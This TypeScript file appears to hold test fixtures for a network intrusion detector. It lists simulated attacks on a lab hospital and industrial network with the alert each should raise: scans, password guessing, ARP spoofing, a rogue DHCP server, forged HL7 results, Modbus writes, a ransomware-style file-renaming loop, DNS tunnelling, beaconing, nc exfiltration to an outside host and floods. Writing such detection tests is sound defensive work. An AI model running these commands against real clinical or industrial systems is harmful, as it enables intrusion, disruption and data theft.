import type { Detection } from '@wardline/model';
import { type Host, hosts } from './hosts.ts';
import { sendResult, writeRegister } from './normal.ts';

/** One thing that an intruder does, by a real program, and what a watch should call it. */
export interface Attack {
  id: string;
  from: Host;
  /** What is done to, where it is one device. */
  to: Host | null;
  command: string;
  /** What somebody else does meanwhile, unknowing. */
  also?: { from: Host; command: string };
  /** Any of these is a find; the first is the best. */
  expected: readonly [Detection, ...Detection[]];
  /** Needs something learnt. */
  needsLearning?: boolean;
}

const { intruder, pacs, panel, lis, files, remote, outsider, names, ct, station } = hosts;
const repeat = (times: number, command: string, pause = '0') =>
  `for n in $(seq ${times}); do ${command}; sleep ${pause}; done`;
const opens = (host: Host, port: number) =>
  `timeout 2 bash -c 'exec 3<>/dev/tcp/${host.ip}/${port}; echo hello >&3; head -c 5 <&3'`;
const forged = (victim: Host, asker: Host) =>
  `nping -q --arp --arp-type ARP-reply --arp-sender-mac ${intruder.mac} --arp-sender-ip ${victim.ip} --arp-target-mac ${asker.mac} --arp-target-ip ${asker.ip} --dest-mac ${asker.mac} -c 6 --rate 2 ${asker.ip}`;
const ransom = Array.from(
  { length: 60 },
  (_, n) =>
    `get report-${n + 10}.txt /tmp/wl-r; put /tmp/wl-r report-${n + 10}.txt; rename report-${n + 10}.txt report-${n + 10}.locked`,
).join('; ');

/** In the order in which somebody would do them. */
export const attacks: readonly Attack[] = [
  {
    id: 'arp-sweep',
    from: intruder,
    to: null,
    command: 'nmap -n -sn 10.66.0.0/24',
    expected: ['address-sweep'],
  },
  {
    id: 'port-scan',
    from: intruder,
    to: pacs,
    command: `nmap -n -Pn -sS -p 1-200 ${pacs.ip}`,
    expected: ['vertical-scan'],
  },
  {
    id: 'stealth-scan',
    from: intruder,
    to: lis,
    command: `nmap -n -Pn -sF -p 1-120 ${lis.ip}`,
    expected: ['vertical-scan'],
  },
  {
    id: 'udp-scan',
    from: intruder,
    to: panel,
    command: `nmap -n -Pn -sU -p 60-110 --max-retries 0 ${panel.ip}`,
    expected: ['vertical-scan'],
  },
  {
    id: 'service-sweep',
    from: intruder,
    to: null,
    command: 'nmap -n -Pn -sS -p 502 --max-retries 0 10.66.1.0/26',
    expected: ['horizontal-scan'],
  },
  {
    id: 'attack-tool',
    from: intruder,
    to: remote,
    command: `nmap -n -Pn -p 80 --script http-title ${remote.ip}`,
    expected: ['attack-tool'],
  },
  {
    id: 'ftp-guessing',
    from: intruder,
    to: remote,
    command: repeat(14, `curl -s -m 5 --user service:guess$n ftp://${remote.ip}/`),
    expected: ['brute-force'],
  },
  {
    id: 'ssh-guessing',
    from: intruder,
    to: remote,
    command: repeat(
      28,
      `ssh -q -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=3 root@${remote.ip} true`,
    ),
    expected: ['brute-force'],
  },
  {
    id: 'snmp-guessing',
    from: intruder,
    to: remote,
    command: repeat(8, `snmpget -v2c -c guess$n -t 0.2 -r 0 ${remote.ip} sysDescr.0`),
    expected: ['brute-force'],
  },
  {
    id: 'default-password',
    from: intruder,
    to: remote,
    command: `curl -s -m 5 --user admin:admin http://${remote.ip}/`,
    expected: ['default-credential'],
  },
  {
    id: 'foreign-protocol',
    from: intruder,
    to: remote,
    command: `ssh -p 443 -q -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@${remote.ip} true`,
    expected: ['protocol-misuse'],
  },
  {
    id: 'arp-spoofing',
    from: intruder,
    to: lis,
    command: `${forged(lis, hosts.analyser)}; ${forged(hosts.analyser, lis)}`,
    expected: ['arp-spoofing'],
  },
  {
    id: 'rogue-dhcp',
    from: intruder,
    to: null,
    command: `timeout 12 dnsmasq --keep-in-foreground --port=0 --no-ping --user=root --pid-file= --dhcp-leasefile=/tmp/wl-rogue --dhcp-range=10.66.0.230,10.66.0.240,1h --dhcp-option=option:router,${intruder.ip} --dhcp-option=option:dns-server,${intruder.ip} --dhcp-authoritative --conf-file=/dev/null`,
    also: {
      from: station,
      command:
        'sleep 2; for n in 1 2 3; do timeout 3 busybox udhcpc -i eth0 -q -n -t 1 -T 1 -s /bin/true; done',
    },
    expected: ['rogue-dhcp'],
  },
  {
    id: 'modbus-write',
    from: intruder,
    to: panel,
    command: repeat(3, writeRegister),
    expected: ['unsafe-command'],
    needsLearning: true,
  },
  {
    id: 'hl7-forgery',
    from: intruder,
    to: lis,
    command: sendResult('COBAS'),
    expected: ['impersonation', 'unsafe-command'],
    needsLearning: true,
  },
  {
    id: 'dicom-harvest',
    from: station,
    to: pacs,
    command: `findscu -aet CT1 -aec PACS1 -S -k QueryRetrieveLevel=STUDY ${pacs.ip} 104`,
    expected: ['impersonation', 'new-command'],
  },
  {
    id: 'lateral-movement',
    from: ct,
    to: remote,
    command: `ssh -q -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@${remote.ip} true`,
    expected: ['lateral-movement'],
    needsLearning: true,
  },
  {
    id: 'ransomware',
    from: station,
    to: files,
    command: `smbclient -N //${files.ip}/reports -c '${ransom}'`,
    expected: ['ransomware'],
  },
  {
    id: 'dns-tunnel',
    from: ct,
    to: null,
    command: repeat(
      45,
      `busybox nslookup $(head -c 27 /dev/urandom | od -An -tx1 | tr -d ' \\n').t.tunnel-zone.example ${names.ip}`,
    ),
    expected: ['dns-tunnel'],
  },
  {
    id: 'icmp-tunnel',
    from: ct,
    to: outsider,
    command: `nping -q --icmp -c 60 --rate 10 --data-length 900 ${outsider.ip}`,
    expected: ['icmp-tunnel'],
  },
  {
    id: 'beaconing',
    from: ct,
    to: outsider,
    command: repeat(14, opens(outsider, 8080), '4.5'),
    expected: ['beaconing'],
  },
  {
    id: 'exfiltration',
    from: station,
    to: outsider,
    command: `head -c 12000000 /dev/zero | timeout 60 busybox nc -w 5 ${outsider.ip} 443`,
    expected: ['exfiltration'],
  },
  {
    id: 'syn-flood',
    from: intruder,
    to: pacs,
    command: `nping -q --tcp -p 104 --flags syn -g rand -c 500 --rate 100 ${pacs.ip}`,
    expected: ['flood'],
  },
  {
    id: 'ping-flood',
    from: intruder,
    to: panel,
    command: `nping -q --icmp -c 4000 --rate 400 ${panel.ip}`,
    expected: ['flood'],
  },
];
